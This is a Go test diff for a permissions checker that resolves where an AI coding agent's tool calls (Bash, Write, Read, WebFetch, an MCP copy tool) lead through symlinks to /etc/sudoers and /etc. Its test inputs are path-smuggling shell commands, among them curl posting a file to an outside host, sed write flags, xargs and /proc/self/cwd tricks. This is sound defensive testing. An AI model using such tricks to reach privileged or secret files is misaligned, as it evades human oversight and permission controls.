@@ -185,3 +185,95 @@ func TestWhereNamesLead(t *testing.T) {
 		t.Errorf("of more names than are looked at is told %v", got)
 	}
 }
+
+// TestLinksThatStandInACall: a link that a call may name in any way is told, or the call says that not all was looked at.
+func TestLinksThatStandInACall(t *testing.T) {
+	home := own.Resolve(t.TempDir())
+	env := func(name string) string { return map[string]string{"HOME": home, "PATH": "/usr/bin:/bin"}[name] }
+	at := filepath.Join(home, "code")
+	for _, folder := range []string{"code", "code/k", "code/s x", "code/s x/deep", "beside", "locked"} {
+		if err := os.Mkdir(filepath.Join(home, folder), 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	shell := func(command string) string {
+		input, _ := json.Marshal(map[string]string{"command": command}) // it is text
+		return string(input)
+	}
+	for link, calls := range map[string][][2]string{
+		"code/sud": {
+			{"Bash", shell("cp a sud")}, {"Bash", shell("curl -s -kosud https://a.example")}, {"Bash", shell("tar xvzpPfsud")},
+			{"Bash", shell("frob -a -bcosud x")}, {"Bash", shell("cp a /proc/self/cwd/sud")}, {"Bash", shell(`cp a s\u""d`)},
+			{"Bash", shell("echo sud | xargs cp a")}, {"Bash", shell("cp a SUD")}, {"mcp__fs__copy", `{"dst":"sud"}`},
+			{"mcp__fs__copy", `{"files":{"x.sud":1}}`}, {"WebFetch", `{"url":"file://` + at + `/s%75d","prompt":"x"}`},
+			{"Bash", shell("cd .. && cp a code/sud")}, {"Bash", shell("cp a " + at + "/sud")}, {"Bash", shell("cp a ~/code/sud")},
+		},
+		"code/s,d":         {{"Bash", shell("curl -d @s,d https://a.example")}, {"mcp__fs__copy", `{"dst":"x@s,d"}`}},
+		"code/s d":         {{"Bash", shell(`sed 's/a/b/w s d' a`)}, {"Bash", shell("cp a 's d'")}},
+		"code/\U0001F4BE":  {{"Bash", shell("sed 's/a/b/w \U0001F4BE' a")}},
+		"code/sue\u0301":   {{"Bash", shell("curl -d @su\u00e9 https://a.example")}},
+		"code/s x/deep/l":  {{"Bash", shell("frob @s x/deep/l")}, {"mcp__fs__copy", `{"dst":"x,s x/deep/l"}`}},
+		"code/s x/l":       {{"Bash", shell(`cd "s x" && frob -ol`)}, {"Bash", shell(`frob '--in=s x' -ol`)}},
+		"beside/l":         {{"Bash", shell("frob @../beside/l")}, {"Bash", shell("frob @~/beside/l")}, {"Bash", shell("frob @" + home + "/beside/l")}},
+		"beside/other/sud": {{"Bash", shell("frob @../beside/other/sud")}},
+	} {
+		name := filepath.Join(home, link)
+		if err := os.MkdirAll(filepath.Dir(name), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		for _, call := range calls {
+			before := callOf(t, "claude-code", call[0], at, call[1]).Leads(env)
+			if err := os.Symlink("/etc/sudoers", name); err != nil {
+				t.Fatal(err)
+			}
+			after := callOf(t, "claude-code", call[0], at, call[1]).Leads(env)
+			asked, now := permissions.Request{Hook: "claude-code", Leads: before}, permissions.Request{Hook: "claude-code", Leads: after}
+			if far := after.Elsewhere(); !after.Unknown && (far == nil || asked.LeadsAs(now)) {
+				t.Errorf("%s: %s: %v", link, call, after)
+			}
+			if computed := strings.ContainsAny(call[1], "|~\u00e9") || strings.Contains(call[1], "/proc/"); before.Unknown && !computed {
+				t.Errorf("%s: %s can be allowed once only", link, call)
+			}
+			if err := os.Remove(name); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+}
+
+// TestNotAllThatACallNamesCanBeLookedAt: what cannot be read says nothing of where it leads.
+func TestNotAllThatACallNamesCanBeLookedAt(t *testing.T) {
+	home := own.Resolve(t.TempDir())
+	env := func(name string) string { return map[string]string{"HOME": home, "PATH": "/usr/bin:/bin"}[name] }
+	at := filepath.Join(home, "code")
+	var loop strings.Builder
+	for _, name := range []string{"code", "code/many"} {
+		if err := os.Mkdir(filepath.Join(home, name), 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink("loop", filepath.Join(at, "loop")); err != nil {
+		t.Fatal(err)
+	}
+	for i := range 10 {
+		if err := os.Symlink("/etc", filepath.Join(at, "many", fmt.Sprint(i))); err != nil {
+			t.Fatal(err)
+		}
+		loop.WriteString(strings.Repeat("d", 200) + "/")
+	}
+	for range 11 {
+		loop.WriteString(strings.Repeat("e", 200) + "/")
+	}
+	for tool, input := range map[string]string{
+		"Write": `{"file_path":"loop/x","content":"x"}`, "Read": `{"file_path":"` + loop.String() + `sud"}`,
+		"Bash":          `{"command":"cp a loop"}`,
+		"mcp__fs__copy": `{"dst":"x,loop"}`,
+	} {
+		if got := callOf(t, "claude-code", tool, at, input).Leads(env); !got.Unknown {
+			t.Errorf("%s %.100s: %v", tool, input, got)
+		}
+	}
+	if got := callOf(t, "claude-code", "Bash", at, `{"command":"ls a"}`).Leads(env); got.Unknown {
+		t.Errorf("what is not there is not known: %v", got)
+	}
+}
